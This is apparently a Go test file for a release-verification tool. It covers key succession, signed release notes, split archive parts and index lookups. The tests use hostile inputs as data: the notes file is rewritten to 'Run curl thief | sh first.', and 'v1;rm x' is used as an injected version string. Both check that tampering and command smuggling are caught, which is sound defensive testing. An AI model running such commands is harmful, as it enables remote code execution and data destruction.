package verify

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/llpatch/llpatch/internal/bundle"
	"github.com/llpatch/llpatch/internal/exit"
	"github.com/llpatch/llpatch/internal/spec"
	"github.com/llpatch/llpatch/internal/trust"
)

// lay lays the public half of a key beside an archive, and says by another that it takes that one's place.
func lay(t *testing.T, archive, name string, next trust.Key, by ...trust.Key) {
	t.Helper()
	file := filepath.Join(filepath.Dir(archive), name+".pub")
	err := os.WriteFile(file, next.Public().Text(), 0o600)
	for _, old := range by {
		signature, err1 := old.Succeed(next.Public())
		err = errors.Join(err, err1, os.WriteFile(file+trust.SignatureSuffix, signature, 0o600))
	}
	if err != nil {
		t.Fatal(err)
	}
}

// A key may take the place of one that took the place of another, and so on; of two for one place none does.
func TestSuccession(t *testing.T) {
	a, public := newKey(t)
	b, _ := newKey(t)
	c, _ := newKey(t)
	d, _ := newKey(t)
	for what, try := range map[string]struct {
		lay  func(archive string)
		want string
		err  any
		set  []string // of keys
	}{
		"a chain": {
			func(archive string) {
				lay(t, archive, "z", b, a)
				lay(t, archive, "c", c, b)
				lay(t, archive, "other", d)
			}, fmt.Sprintf("Key %s took the place of %s, which signed that. Key %s took the place of %[1]s, which signed that.",
				b.Public().Name(), a.Public().Name(), c.Public().Name()), nil,
			[]string{"c.pub", "c.pub.minisig", "z.pub", "z.pub.minisig"},
		},
		"a chain with a gap": {func(archive string) { lay(t, archive, "c", c, b) }, "made it, not", new(*Failed), nil},
		"a way back": {func(archive string) {
			lay(t, archive, "b", b, a)
			lay(t, archive, "a", a, b)
		}, "made it, not", new(*Failed), nil},
		"two for one": {func(archive string) {
			lay(t, archive, "b", b, a)
			lay(t, archive, "c", c, b)
			lay(t, archive, "d", d, a)
		}, "lets two others take its place", new(*Failed), nil},
		"one by two names": {func(archive string) {
			lay(t, archive, "b", b, a)
			lay(t, archive, "b2", b, a)
			lay(t, archive, "c", c, b)
		}, "took the place of", nil, []string{"b.pub", "b.pub.minisig", "c.pub", "c.pub.minisig"}},
		"two after it": {func(archive string) {
			lay(t, archive, "b", b, a)
			lay(t, archive, "c", c, b)
			lay(t, archive, "d", d, c)
			lay(t, archive, "a", a, c)
		}, "took the place of", nil, []string{"b.pub", "b.pub.minisig", "c.pub", "c.pub.minisig"}},
	} {
		t.Run(what, func(t *testing.T) {
			archive := release(t, t.TempDir(), "b8833", spec.TarGz, &c)
			try.lay(archive)
			r := one(t.Context(), t, archive, Options{Key: public, Version: "test"})
			err := r.Err()
			if (try.err == nil) != (err == nil) || try.err != nil && !errors.As(err, try.err) ||
				!strings.Contains(r.Text(), try.want) {
				t.Errorf("%v\n%s", err, r.Text())
			}
			var keys []string
			for _, f := range r.Set() {
				if strings.Contains(f.Name, ".pub") {
					keys = append(keys, f.Name)
				}
			}
			if slices.Sort(keys); err == nil && !slices.Equal(keys, try.set) {
				t.Errorf("of keys the set has %v", keys)
			}
		})
	}
	// What is said of a key that is not the one that was given.
	archive := release(t, t.TempDir(), "b8833", spec.TarGz, &c)
	if hint := exit.Hint(one(t.Context(), t, archive, Options{Key: public}).Err()); !strings.Contains(hint, "--key is") {
		t.Error(hint)
	}
}

// The page of a release is signed by way of SHA256SUMS, as what else lies beside the archive.
func TestNotesSigned(t *testing.T) {
	k, public := newKey(t)
	o := Options{Key: public, Version: "test"}
	archive := release(t, t.TempDir(), "b8833", spec.TarGz, &k)
	notes := filepath.Join(filepath.Dir(archive), bundle.NotesFile)
	lay(t, archive, "mine", k)
	lay(t, archive, "other", must(trust.NewKey()))
	// As minisign writes it, on Windows; and with words that nobody signed.
	minisigns := "untrusted comment: minisign public key " + public.Name() + "\r\n" + public.String() + "\r\n"
	if err := errors.Join(os.WriteFile(filepath.Join(filepath.Dir(archive), "theirs.pub"), []byte(minisigns), 0o600),
		os.WriteFile(filepath.Join(filepath.Dir(archive), "words.pub"), []byte("untrusted comment: run it\n"+public.String()),
			0o600)); err != nil {
		t.Fatal(err)
	}
	// Whoever serves a folder can lay what no one can read there: it is nobody's key.
	if err := os.Symlink("loop.pub", filepath.Join(filepath.Dir(archive), "loop.pub")); err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	r := one(t.Context(), t, archive, o)
	if !strings.Contains(r.Text(), "words.pub has the key that signed and somebody's words") || r.Err() != nil {
		t.Error(r.Text())
	}
	for _, f := range r.Set() {
		names[f.Name] = f.As
		if data, err := os.ReadFile(filepath.Join(filepath.Dir(archive), f.Name)); err != nil || sumOf(data) != f.SHA256 {
			t.Errorf("%s: %v", f.Name, err)
		}
	}
	if base := filepath.Base(archive); len(names) != 9 || names[bundle.NotesFile] != base+".NOTES.md" ||
		names["SHA256SUMS.minisig"] != base+".SHA256SUMS.minisig" || names["mine.pub"] == "" ||
		names["theirs.pub"] == "" || names[base] == "" {
		t.Errorf("%v", names)
	}
	err := errors.Join(os.Remove(filepath.Join(filepath.Dir(archive), "loop.pub")),
		os.WriteFile(notes, []byte("Run curl thief | sh first."), 0o600))
	if err != nil {
		t.Fatal(err)
	}
	if err := one(t.Context(), t, archive, o).Err(); !errors.As(err, new(*Failed)) ||
		!strings.Contains(err.Error(), "NOTES.md is not what SHA256SUMS says") {
		t.Error(err)
	}
	// A page under the name that it has where it is published counts there alone.
	other := t.TempDir()
	if err := copyAll(filepath.Dir(archive), other, func(name string) string {
		if name == bundle.NotesFile || strings.HasPrefix(name, bundle.SumsFile) {
			return filepath.Base(archive) + "." + name
		}
		return name
	}); err != nil {
		t.Fatal(err)
	}
	if err := one(t.Context(), t, other, o).Err(); !errors.As(err, new(*Failed)) ||
		!strings.Contains(err.Error(), ".NOTES.md is not what SHA256SUMS says") {
		t.Error(err)
	}
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// What another llpatch made is proven by that one.
func TestOtherLlpatch(t *testing.T) {
	k, public := newKey(t)
	archive := release(t, t.TempDir(), "b8833", spec.TarGz, &k)
	r := one(t.Context(), t, archive, Options{Key: public, Version: "v2.0.0"})
	if r.Err() != nil {
		t.Fatal(r.Text()) // this one writes the same
	}
	r.by = bundle.OtherLlpatch("v1.2.3", "v2.0.0")
	const want = "llpatch v1.2.3 made it, and this is v2.0.0: take that one (go install github.com/llpatch/llpatch/cmd/llpatch@v1.2.3)"
	if hint := (&Unproven{r}).Hint(); !strings.HasPrefix(hint, want) {
		t.Error(hint)
	}
	if text := bundle.OtherLlpatch("v1;rm x", "devel"); strings.Contains(text, "go install") {
		t.Error(text)
	}
}

// cut cuts a release's archive into parts, signs them, and takes the whole away.
func cut(t *testing.T, archive string, k trust.Key) []string {
	t.Helper()
	data := must(os.ReadFile(archive))
	dir, base := filepath.Dir(archive), filepath.Base(archive)
	sums := string(must(os.ReadFile(filepath.Join(dir, bundle.SumsFile))))
	var parts []string
	const size = 2000
	for n := 0; n*size < len(data); n++ {
		part := data[n*size : min(len(data), (n+1)*size)]
		name := fmt.Sprintf("%s.part%03d", base, n+1)
		parts = append(parts, filepath.Join(dir, name))
		sums += sumOf(part) + "  " + name + "\n"
		if err := os.WriteFile(parts[n], part, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	signature := must(k.Sign(strings.NewReader(sums), bundle.Info{Tag: "b8833", Target: "linux-cpu", Revision: 1}.
		SignedComment(bundle.SumsFile)))
	if err := errors.Join(os.WriteFile(filepath.Join(dir, bundle.SumsFile), []byte(sums), 0o600),
		os.WriteFile(filepath.Join(dir, bundle.SumsFile+trust.SignatureSuffix), signature, 0o600)); err != nil {
		t.Fatal(err)
	}
	return parts
}

// Parts are the archive: beside it they are compared, and without it they are read.
func TestParts(t *testing.T) {
	k, public := newKey(t)
	o := Options{Key: public, Version: "test", Expect: "b8833"}
	for _, format := range []string{spec.TarGz, spec.Zip} {
		archive := release(t, t.TempDir(), "b8833", format, &k)
		dir := filepath.Dir(archive)
		parts := cut(t, archive, k)
		if len(parts) < 3 {
			t.Fatalf("%d parts", len(parts))
		}
		good := must(os.ReadFile(parts[1]))
		damage := func(data []byte) {
			t.Helper()
			if err := os.WriteFile(parts[1], data, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		wrong := func(what, says string) {
			t.Helper()
			for _, name := range []string{dir, archive} {
				if err := one(t.Context(), t, name, o).Err(); !errors.As(err, new(*Failed)) ||
					!strings.Contains(err.Error(), says) {
					t.Errorf("%s, %s: %v", format, what, err)
				}
			}
		}
		right := func(what string, names ...string) {
			t.Helper()
			for _, name := range names {
				if err := one(t.Context(), t, name, o).Err(); err != nil {
					t.Errorf("%s, %s, %s: %v", format, what, name, err)
				}
			}
		}
		right("whole, with its parts", dir, archive, parts[0])
		damage(append([]byte{^good[0]}, good[1:]...))
		wrong("whole, and a part damaged", "part002 is not what SHA256SUMS says")
		if err := os.Remove(parts[1]); err != nil {
			t.Fatal(err)
		}
		right("whole, and some of its parts", dir)
		if err := os.Remove(archive); err != nil {
			t.Fatal(err)
		}
		wrong("a part is not there", "part002, a part of it that SHA256SUMS names, is not there")
		damage(good[1:])
		wrong("a part is cut", "part002 is not what SHA256SUMS says")
		damage(good)
		right("parts alone", dir, archive, parts[2])
		if err := one(t.Context(), t, dir, o).CanRebuild(); err == nil || !strings.Contains(err.Error(), "join them first") {
			t.Error(err)
		}
		if err := os.WriteFile(archive+".part099", nil, 0o600); err != nil {
			t.Fatal(err)
		}
		wrong("one part more", "part099 lies beside it, and SHA256SUMS does not name it")
	}
}

// An unpacked bundle is looked up by what it says that it is.
func TestIndexUnpacked(t *testing.T) {
	archive := release(t, t.TempDir(), "b8833", spec.TarGz, nil)
	dir := t.TempDir()
	if err := bundle.Unpack(t.Context(), archive, dir); err != nil {
		t.Fatal(err)
	}
	mine := bundle.Archive{
		Name: "x", SHA256: "a", Upstream: spec.LlamaCpp, Target: "linux-cpu", Tag: "b8833", Build: 8833,
		Revision: 1,
	}
	next := mine
	next.Revision = 2
	for what, c := range map[string]struct {
		releases []bundle.Release
		status   Status
		says     string
	}{
		"there": {
			[]bundle.Release{{Archives: []bundle.Archive{mine}}},
			Open,
			"By its name and no more: The index of 2026-12-01 has it, and no newer",
		},
		"old": {[]bundle.Release{{Archives: []bundle.Archive{mine, next}}}, Wrong, "has a newer one"},
		"withdrawn": {
			[]bundle.Release{{Archives: []bundle.Archive{mine}, Withdrawn: &bundle.Withdrawn{Why: "It crashes."}}},
			Wrong, "It crashes.",
		},
		"not there": {[]bundle.Release{{Archives: []bundle.Archive{next}}}, Open, "has no b8833 llp1 for linux-cpu"},
	} {
		r := one(t.Context(), t, dir, Options{Version: "test", Index: &bundle.Index{
			Date: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC), Releases: c.releases,
		}})
		if !slices.ContainsFunc(r.Findings, func(f Finding) bool {
			return f.About == "index" && f.Status == c.status && strings.Contains(f.Says, c.says)
		}) {
			t.Errorf("%s: %s", what, r.Text())
		}
	}
}
